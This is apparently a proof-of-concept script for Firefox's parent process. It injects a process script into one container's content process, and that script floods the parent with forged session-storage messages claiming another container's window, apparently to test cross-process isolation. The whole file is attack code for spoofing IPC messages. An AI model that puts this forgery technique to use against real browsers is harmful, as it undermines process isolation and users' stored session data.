// Has the process of one visit answer for a window of another. Runs in Firefox's parent process.
async (name, forger, victim) => {
  const topic = `${name}.session_storage`;
  const browsers = [...Services.wm.getEnumerator("navigator:browser")].flatMap(({ gBrowser }) => gBrowser.browsers);
  const windowOf = (user) => {
    const found = browsers.find(({ browsingContext: it }) => it?.originAttributes.userContextId === Number(user));
    return found.browsingContext.currentWindowGlobal;
  };
  const script = `{
    const found = [{ number: ${windowOf(victim).innerWindowId}, items: [["forged", "1", 1]], cut: 7 }];
    const timer = Cc["@mozilla.org/timer;1"].createInstance(Ci.nsITimer);
    const forge = () => {
      for (let question = 0; question < 200; question++) Services.cpmm.sendAsyncMessage("${topic}", { question, found });
    };
    timer.initWithCallback(forge, 5, Ci.nsITimer.TYPE_REPEATING_SLACK);
    Services.cpmm.forger = timer;
  }`;
  const { osPid } = windowOf(forger);
  let answers = 0;
  Services.ppmm.addMessageListener(topic, ({ target }) => {
    if (target.osPid === osPid) answers++;
  });
  for (let i = 0; i < Services.ppmm.childCount; i++) {
    const process = Services.ppmm.getChildAt(i);
    if (process.osPid === osPid) process.loadProcessScript(`data:,${encodeURIComponent(script)}`, false);
  }
  while (answers < 400) await new Promise((resolve) => setTimeout(resolve, 10));
};
